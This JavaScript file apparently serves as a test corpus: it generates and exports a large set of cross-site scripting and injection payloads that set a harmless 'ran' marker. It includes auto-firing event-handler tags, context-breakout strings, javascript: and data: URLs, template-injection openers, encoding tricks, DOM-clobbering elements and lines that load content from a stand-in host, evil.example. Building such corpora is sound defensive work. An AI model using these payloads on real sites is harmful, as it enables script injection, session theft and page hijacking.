// Text that tries to run, to break out, to deceive, or to break the page. Where a payload can run anything it sets `ran`.
const RUN = 'globalThis.ran=1';

// Every element that loads or starts something, with every handler that fires by itself.
const handlers = {
  img: ['src=x onerror', 'src=/icon.svg onload'],
  svg: ['onload', 'onbegin', 'onfocusin tabindex=1 autofocus'],
  body: ['onload', 'onpageshow', 'onhashchange', 'onresize', 'onfocus'],
  iframe: ['onload', 'src=javascript:globalThis.ran=1 onload'],
  video: ['src=x onerror', 'onloadstart src=x', 'autoplay oncanplay src=x'],
  audio: ['src=x onerror', 'onloadstart src=x'],
  input: ['autofocus onfocus', 'type=image src=x onerror', 'onblur autofocus'],
  select: ['autofocus onfocus'],
  textarea: ['autofocus onfocus'],
  button: ['autofocus onfocus', 'popovertarget=x onclick'],
  details: ['open ontoggle'],
  marquee: ['onstart', 'loop=1 width=0 onfinish'],
  object: ['data=x onerror', 'onload data=/'],
  embed: ['src=/ onload', 'src=x onerror'],
  link: ['rel=stylesheet href=x onerror', 'rel=stylesheet href=/style.css onload'],
  style: ['onload', 'onerror'],
  script: ['src=x onerror', 'src=/page.js onload'],
  a: ['autofocus tabindex=1 onfocus href=#', 'onpointerover href=#'],
  div: ['style=animation:waiting%200s onanimationstart', 'onwheel style=height:9999px', 'contenteditable autofocus onfocus'],
  p: ['popover onbeforetoggle', 'onscroll'],
  image: ['src=x onerror'],
  'math><mtext><img': ['src=x onerror'],
  'template><img': ['src=x onerror'],
  'noscript><img': ['src=x onerror'],
  'table background=x><img': ['src=x onerror'],
};
const elements = Object.entries(handlers).flatMap(([tag, list]) => list.map(handler => `<${tag} ${handler}=${RUN}>`));

// Ways out of the place where a text may have been put.
const exits = ['"', "'", '`', '-->', ']]>', '</script>', '</style>', '</title>', '</textarea>', '</svg>', '</noscript>', '\\";', "\\';", '*/', '}})', '</text>', '<!--', '&quot;', '%22', '\r\n\r\n'];
const broken = exits.flatMap(exit => [`${exit}><script>${RUN}</script>`, `${exit} onmouseover=${RUN} x=`, `${exit}><img src=x onerror=${RUN}>`, `${exit};${RUN};//`]);

const urls = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript://%0a', 'data:text/html,<script>', 'data:image/svg+xml,<svg onload=',
  'vbscript:', 'blob:', 'view-source:javascript:', 'feed:javascript:', '//evil.example/', 'https://evil.example/?', 'file:///etc/passwd#',
].map(scheme => `${scheme}${RUN}`);

const templates = ['{{', '${', '#{', '<%=', '{%', '[[', '@{', '{{constructor.constructor("', 'javascript:/*--></title></style></textarea></script><svg/onload='].map(open => `${open}${RUN}`);

const encoded = [
  `<scr<script>ipt>${RUN}</script>`, `<script\u0000>${RUN}</script>`, `\u003cscript\u003e${RUN}\u003c/script\u003e`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `<script/x>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script>${RUN}//`, `<<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<img/src/onerror=${RUN}>`, `<img src=x:x onerror\n=${RUN}>`,
  `<svg><script href="data:text/javascript,${RUN}"/>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,x#x"/>`,
  `<math href="javascript:${RUN}">x`, `<form><button formaction="javascript:${RUN}">`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "https://evil.example/"</style>`, `<style>*{background:url(https://evil.example/)}</style>`, `<img src="https://evil.example/x.png">`,
  `<form id=app><input name=hidden>`, `<img name=getElementById>`, `<a id=byId href=x>`, `<p id=list>`, `<input id=entry-token>`,
];

const deceits = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'length', '', ' ', '0', 'null', 'undefined', 'NaN', '-1', 'true',
  '\u202Eexe.tset', 'echo\u200B', '\u2066safe\u2069', '\uFEFFecho', 'echo\u0000', 'a\nb', 'a\r\nb', '\u2028x\u2029', '\u001b[31mred\u001b[0m', '\u001b]8;;http://evil.example\u0007x',
  '\u0007\u0008\u007f\u0085', 'Z̸̢̛a̵̧l̶̨g̷̡o̸̢'.repeat(20), 'ﷺ'.repeat(40), 'x'.repeat(3000), '🏴‍☠️'.repeat(50), '[redacted]', '[hash 000000]', 'end', 'participant x', '%%{init:{}}%%',
];

export const PAYLOADS = [...new Set([...elements, ...broken, ...urls, ...templates, ...encoded, ...deceits])];
